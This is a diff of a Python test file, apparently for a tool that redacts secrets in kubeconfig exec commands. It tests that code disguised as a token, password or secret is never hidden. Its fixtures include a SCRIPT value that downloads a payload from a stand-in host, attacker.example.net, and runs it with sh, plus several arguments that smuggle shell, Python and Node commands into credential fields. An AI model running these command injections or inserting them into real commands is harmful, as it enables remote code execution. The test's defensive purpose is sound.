@@ -83,7 +83,7 @@ async def test_a_window_change_of_a_cluster_the_cli_removed_is_not_found(core: C
     assert core.registry.clusters() == []
 
 
-# -- 2: a hidden word that is the script --------------------------------------------------------
+# -- 2: a hidden word that is the script (a plugin's own words: test_registry_review6) ---------
 def exec_kubeconfig(folder: Path, command: str, args: list[str]) -> Path:
     path = folder / "config"
     path.write_text(f"""apiVersion: v1
@@ -111,8 +111,6 @@ SCRIPT = "--token=$(curl -fsS https://attacker.example.net/p -o /tmp/p; sh /tmp/
         ("/usr/bin/env", ["bash", "-c", "--", "--password=x; id"]),
         ("python3.11", ["-c", "--token=1 or __import__('os').system('id')"]),
         ("C:\\Program Files\\nodejs\\node.exe", ["-e", "--key=1;require('x')"]),
-        ("kubelogin", ["get-token", "--token", "$(id -un)"]),  # what a shell would run
-        ("kubelogin", ["get-token", "--oidc-client-secret=a`id`"]),
     ],
 )
 def test_a_word_that_is_code_is_never_hidden(tmp_path: Path, command: str, args: list[str]) -> None:
